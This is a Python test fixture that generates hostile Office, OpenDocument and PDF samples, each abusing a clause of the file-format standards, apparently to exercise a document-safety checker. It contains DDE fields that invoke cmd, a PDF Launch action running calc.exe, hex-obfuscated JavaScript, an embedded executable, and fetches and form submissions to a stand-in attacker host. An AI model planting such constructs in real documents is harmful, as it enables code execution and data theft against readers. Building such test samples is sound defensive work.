"""Harmful forms written from the standards (ECMA-376, ISO 32000-2, OpenDocument 1.3): in each, one clause of a standard
is used against who reads it."""

from tests.foundation.files.harmful.packages import (
    DOCUMENT,
    EVIL,
    EXCEL,
    MICROSOFT,
    ODS,
    SPACES,
    STRICT,
    WORD,
    XML,
    S,
    W,
    formula,
    odf,
    pdf,
    relations_of,
    run,
    settings,
    sheet,
    word,
)  # fmt: skip
from tests.hostile import Made

_NAMES = " ".join(f'xmlns:{prefix}="{uri}"' for prefix, uri in SPACES.items())
OBJECT = (
    '<w:p><w:r><w:object><o:OLEObject Type="Link" ProgID="Word.Document" r:id="r1"/></w:object></w:r></w:p>'
)
PICTURE_REL = "word/_rels/document.xml.rels"
PROGRAM = (
    '<w:p><w:r><w:drawing><wp:inline><wp:docPr id="1" name="x"><a:hlinkClick r:id="" '
    'action="ppaction://program"/></wp:docPr></wp:inline></w:drawing></w:r></w:p>'
)

OFFICES: dict[str, Made] = {
    # ECMA-376 part 1, 15.2 and 17.15: relationships that fetch.
    "attached template of the strict type": lambda: settings(
        f"{STRICT}/attachedTemplate", '<w:attachedTemplate r:id="r1"/>'
    ),
    "mail merge source": (lambda: settings(f"{DOCUMENT}/relationships/mailMergeSource")),
    "transform through a style sheet": (lambda: settings(f"{DOCUMENT}/relationships/transform")),
    "sub-document": lambda: word(
        '<w:subDoc r:id="r1"/>',
        {PICTURE_REL: relations_of((f"{DOCUMENT}/relationships/subDocument", EVIL, "External"))},
    ),
    "linked picture": lambda: word(
        parts={PICTURE_REL: relations_of((f"{DOCUMENT}/relationships/image", EVIL, "External"))}
    ),
    "frame of the web settings": lambda: word(
        parts={
            PICTURE_REL: relations_of((f"{DOCUMENT}/relationships/webSettings", "web.xml", "")),
            "word/web.xml": f'{XML}<w:webSettings xmlns:w="{W}" xmlns:r="{DOCUMENT}/relationships"><w:frameset>'
            f'<w:frame><w:sourceFileName r:id="r1"/></w:frame></w:frameset></w:webSettings>',
            "word/_rels/web.xml.rels": relations_of((f"{DOCUMENT}/relationships/frame", EVIL, "External")),
        },
        types={"word/web.xml": f"{WORD}.webSettings+xml"},
    ),
    "hyperlink to a share": lambda: word(
        parts={
            PICTURE_REL: relations_of(
                (f"{DOCUMENT}/relationships/hyperlink", "file://///evil.example/share/x", "External")
            )
        }
    ),
    "control in a part of neutral name": lambda: word(
        parts={
            PICTURE_REL: relations_of((f"{DOCUMENT}/relationships/control", "a.xml", "")),
            "word/a.xml": '<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" '
            'ax:classid="{8BD21D40-EC42-11CE-9E0D-00AA006002F3}" ax:persistence="persistPropertyBag"/>',
        },
        types={"word/a.xml": "application/vnd.ms-office.activeX+xml"},
    ),
    "keys that run macros": lambda: word(
        parts={
            PICTURE_REL: relations_of((f"{MICROSOFT}/keyMapCustomizations", "k.xml", "")),
            "word/k.xml": '<wne:tcg xmlns:wne="http://schemas.microsoft.com/office/word/2006/wordml"/>',
        },
        types={"word/k.xml": "application/vnd.ms-word.keyMapCustomizations+xml"},
    ),
    "ribbon with a callback": lambda: word(
        parts={
            "_rels/.rels": relations_of(
                (f"{DOCUMENT}/relationships/officeDocument", "word/document.xml", ""),
                (f"{MICROSOFT}/ui/extensibility", "ui.xml", ""),
            ),
            "ui.xml": '<customUI xmlns="http://schemas.microsoft.com/office/2006/01/customui" onLoad="Run"/>',
        }
    ),
    "main part for macros": (lambda: word(kind="application/vnd.ms-word.document.macroEnabled.main+xml")),
    # 17.16: fields.
    "simple field that links": lambda: word(
        '<w:p><w:fldSimple w:instr=" link Excel.Sheet.8 &quot;c:\\x&quot; "/></w:p>'
    ),
    "field built from codes of letters": lambda: word(f"<w:p>{run(' QUOTE 68 68 69 65 85 84 79 ')}</w:p>"),
    "field inside a field's code": lambda: word(
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>IF </w:instrText></w:r>'
        + run("DATA|BASE \\d &quot;x&quot;")
        + '<w:r><w:instrText> = 1</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    ),
    "field of a header": lambda: word(
        parts={
            PICTURE_REL: relations_of((f"{DOCUMENT}/relationships/header", "h.xml", "")),
            "word/h.xml": f'{XML}<w:hdr xmlns:w="{W}"><w:p>{run("DDE|AUTO cmd")}</w:p></w:hdr>',
        },
        types={"word/h.xml": f"{WORD}.header+xml"},
    ),
    "drawing that runs a program": (lambda: word(PROGRAM)),
    "picture of VML by its address": lambda: word(
        f'<w:p><w:r><w:pict><v:shape><v:imagedata o:href="{EVIL}"/></v:shape></w:pict></w:r></w:p>'
    ),
    "linked object in a fallback": lambda: word(
        f"<mc:AlternateContent><mc:Fallback>{OBJECT}</mc:Fallback></mc:AlternateContent>",
        {PICTURE_REL: relations_of((f"{DOCUMENT}/relationships/oleObject", EVIL, "External"))},
    ),
    # ECMA-376 part 2: packaging.
    "relationships in pieces": lambda: word(
        parts={
            "word/_rels/document.xml.rels/[0].piece": relations_of(
                (f"{DOCUMENT}/relationships/attachedTemplate", EVIL, "External")
            )[:200],
            "word/_rels/document.xml.rels/[1].last.piece": relations_of(
                (f"{DOCUMENT}/relationships/attachedTemplate", EVIL, "External")
            )[200:],
        }
    ),
    "name written with percent signs": lambda: word(
        parts={
            "word/_rels/document%2Exml.rels": relations_of(
                (f"{DOCUMENT}/relationships/attachedTemplate", EVIL, "External")
            )
        }
    ),
    "two parts whose names differ by capitals": lambda: word(
        parts={"word/DOCUMENT.xml": f'{XML}<w:document xmlns:w="{W}"/>'}
    ),
    # ECMA-376 part 1, 18: spreadsheets.
    "DDE link of a workbook": lambda: sheet(
        relations=((f"{DOCUMENT}/relationships/externalLink", "e.xml", ""),),
        parts={
            "xl/e.xml": f'{XML}<externalLink xmlns="{S}"><ddeLink ddeService="cmd" ddeTopic="/c calc"/>'
            f"</externalLink>"
        },
        types={"xl/e.xml": f"{EXCEL}.externalLink+xml"},
    ),
    "connection to a database": lambda: sheet(
        relations=((f"{DOCUMENT}/relationships/connections", "c.xml", ""),),
        parts={
            "xl/c.xml": f'{XML}<connections xmlns="{S}"><connection id="1" type="1" refreshOnLoad="1">'
            f'<dbPr connection="DSN=x" command="exec y"/></connection></connections>'
        },
        types={"xl/c.xml": f"{EXCEL}.connections+xml"},
    ),
    "macro sheet": lambda: sheet(
        relations=((f"{MICROSOFT}/xlMacrosheet", "m.xml", ""),),
        parts={
            "xl/m.xml": f'{XML}<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"/>'
        },
        types={"xl/m.xml": "application/vnd.ms-excel.macrosheet+xml"},
    ),
    "defined name that fetches": lambda: sheet(
        book='<definedNames><definedName name="x">WEBSERVICE("http://e.x")</definedName></definedNames>'
    ),
    "condition of a format that fetches": lambda: sheet(
        after='<conditionalFormatting sqref="A1"><cfRule type="expression" priority="1"><formula>'
        'LEN(_xlfn.WEBSERVICE("http://e.x"))</formula></cfRule></conditionalFormatting>'
    ),
    "function of real-time data": (lambda: formula('rtd ("evil.server","",1)')),
    "cell of a book on a share": (lambda: formula("'\\\\evil.example\\s\\[x.xlsx]F'!A1")),
    "sheet in the binary format": (
        lambda: sheet(kind="application/vnd.ms-excel.sheet.binary.macroEnabled.main")
    ),
    # OpenDocument 1.3 part 3.
    "section from another file": lambda: odf(
        f'<text:section text:name="s"><text:section-source xlink:type="simple" xlink:href="{EVIL}"/></text:section>'
    ),
    "declared DDE connection": lambda: odf(
        "<text:dde-connection-decls><text:dde-connection-decl office:name='x' office:dde-application='soffice' "
        "office:dde-topic='y' office:dde-item='z'/></text:dde-connection-decls>"
    ),
    "macro that a text runs": (lambda: odf("<text:p><text:execute-macro text:name='x'/></text:p>")),
    "plug-in of a drawing": lambda: odf(
        '<text:p><draw:frame><draw:plugin xlink:href="./p"/></draw:frame></text:p>'
    ),
    "base that makes every link foreign": lambda: odf(
        '<text:p><draw:frame><draw:image xlink:href="Pictures/a.png"/></draw:frame></text:p>',
        root=' xml:base="http://evil.example/"',
    ),
    "template to be loaded again": lambda: odf(
        "<text:p/>",
        parts={
            "meta.xml": f"{XML}<office:document-meta {_NAMES}><office:meta><meta:template xlink:type='simple' "
            f"xlink:actuate='onRequest' xlink:href='{EVIL}'/></office:meta></office:document-meta>"
        },
        manifest='<manifest:file-entry manifest:full-path="meta.xml" manifest:media-type="text/xml"/>',
    ),
    "document that loads another after a while": lambda: odf(
        "<text:p/>",
        parts={
            "meta.xml": f"{XML}<office:document-meta {_NAMES}><office:meta><meta:auto-reload xlink:href='{EVIL}' "
            f"meta:delay='PT1S'/></office:meta></office:document-meta>"
        },
    ),
    "form that is sent": lambda: odf(
        f'<office:forms><form:form xlink:href="{EVIL}" form:method="post"/></office:forms><text:p/>'
    ),
    "submission of an XForm": lambda: odf(
        f'<office:forms><xforms:model><xforms:submission action="{EVIL}" method="post"/></xforms:model>'
        "</office:forms><text:p/>"
    ),
    "font from an address": lambda: odf(
        "<text:p/>",
        before='<office:font-face-decls><style:font-face style:name="x"><svg:font-face-src>'
        f'<svg:font-face-uri xlink:href="{EVIL}"/></svg:font-face-src></style:font-face></office:font-face-decls>',
    ),
    "link to a script": lambda: odf(
        '<text:p><text:a xlink:href="vnd.sun.star.script:x?language=Basic">y</text:a></text:p>'
    ),
    "formula that exchanges data": lambda: odf(
        '<table:table table:name="t"><table:table-row><table:table-cell '
        "table:formula='of:=DDE(&quot;soffice&quot;;&quot;x&quot;;&quot;y&quot;)'/></table:table-row></table:table>",
        mime=ODS,
    ),
    "cells of another file": lambda: odf(
        '<table:table table:name="t"><table:table-row><table:table-cell><table:cell-range-source '
        f'table:name="x" xlink:href="{EVIL}"/></table:table-cell></table:table-row></table:table>',
        mime=ODS,
    ),
}
PDFS: dict[str, Made] = {
    # ISO 32000-2, 12.6 and around.
    "action of a page that is opened": (lambda: pdf(page="/AA << /O << /S /URI /URI (http://e.x) >> >>")),
    "second action of a chain": lambda: pdf(
        catalog="/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /Launch /F (calc.exe) >> >>"
    ),
    "script of an outline": lambda: pdf(
        "<< /Type /Outlines /First 6 0 R /Last 6 0 R /Count 1 >>",
        "<< /Title (x) /Parent 5 0 R /A << /S /#4aavaScript /#4aS (app.alert\\(1\\)) >> >>",
        catalog="/Outlines 5 0 R",
    ),
    "form sent by a button": lambda: pdf(
        "<< /Type /Annot /Subtype /Widget /FT /Btn /T (b) /Rect [0 0 9 9] /A << /S /SubmitForm /F (http://e.x) >> >>",
        page="/Annots [5 0 R]",
        catalog="/AcroForm << /Fields [5 0 R] >>",
    ),
    "form of the XML kind": lambda: pdf(
        "<< /Length 31 >>\nstream\n<xdp:xdp xmlns:xdp='x'></xdp:xd\nendstream",
        catalog="/AcroForm << /Fields [] /XFA 5 0 R >>",
    ),
    "go to a document elsewhere": lambda: pdf(
        "<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /GoToR /F (\\\\\\\\evil\\\\s) /D [0 /Fit] >> >>",
        page="/Annots [5 0 R]",
    ),
    "film in a rendition": lambda: pdf(
        "<< /Type /Annot /Subtype /Screen /Rect [0 0 9 9] /A << /S /Rendition /OP 0 /R << /S /MR /C << /S /MCD "
        "/D << /Type /Filespec /FS /URL /F (http://e.x) >> >> >> >> >>",
        page="/Annots [5 0 R]",
    ),
    "attachment of an annotation": lambda: pdf(
        "<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream",
        "<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS << /Type /Filespec /F (a.exe) "
        "/EF << /F 5 0 R >> >> >>",
        page="/Annots [6 0 R]",
    ),
    "base of every address": (lambda: pdf(catalog="/URI << /Base (http://evil.example/) >>")),
    "image whose bytes are elsewhere": lambda: pdf(
        "<< /Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray /BitsPerComponent 8 "
        "/F << /FS /URL /F (http://e.x) >> /Length 0 >>\nstream\n\nendstream",
        page="/Resources << /XObject << /I 5 0 R >> >>",
    ),
    "page of another document drawn in": lambda: pdf(
        "<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] /Ref << /F (other.pdf) /Page 0 >> /Length 0 >>\n"
        "stream\n\nendstream",
        page="/Resources << /XObject << /I 5 0 R >> >>",
    ),
    "object that no table lists": lambda: pdf(tail=b"9 0 obj\n<< /S /J#61vaScript /JS (x) >>\nendobj\n"),
}
